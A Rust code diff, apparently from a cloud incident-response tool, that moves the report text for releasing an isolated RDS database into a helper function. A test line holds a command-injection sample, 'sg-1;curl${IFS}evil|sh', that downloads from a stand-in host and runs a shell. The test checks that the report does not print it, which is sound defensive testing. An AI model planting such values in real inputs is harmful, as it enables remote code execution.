@@ -55,14 +55,7 @@ impl Report {
             return self.write_function_release(b);
         }
         if self.plan.has(ActionKind::IsolateDatabase) {
-            let _ = writeln!(
-                b,
-                "  Choose {} on the finding in Security Hub: it gives back the database's VPC \
-                 security groups\n  exactly as recorded ({}). The snapshot is kept.",
-                CustomAction::FbRelease.id(),
-                tags::VPC_GROUPS
-            );
-            return;
+            return write_database_release(b);
         }
         let _ = writeln!(
             b,
@@ -159,4 +152,15 @@ mod tests {
             r#"(not printed: "sg-1;curl${IFS}evil|sh" is not a valid security group id)"#
         ));
     }
+}
+
+/// HOW TO RELEASE an RDS database: `FbRelease`, which gives its recorded groups back.
+fn write_database_release(b: &mut String) {
+    let _ = writeln!(
+        b,
+        "  Choose {} on the finding in Security Hub: it gives back the database's VPC security \
+         groups\n  exactly as recorded ({}). The snapshot is kept.",
+        CustomAction::FbRelease.id(),
+        tags::VPC_GROUPS
+    );
 }
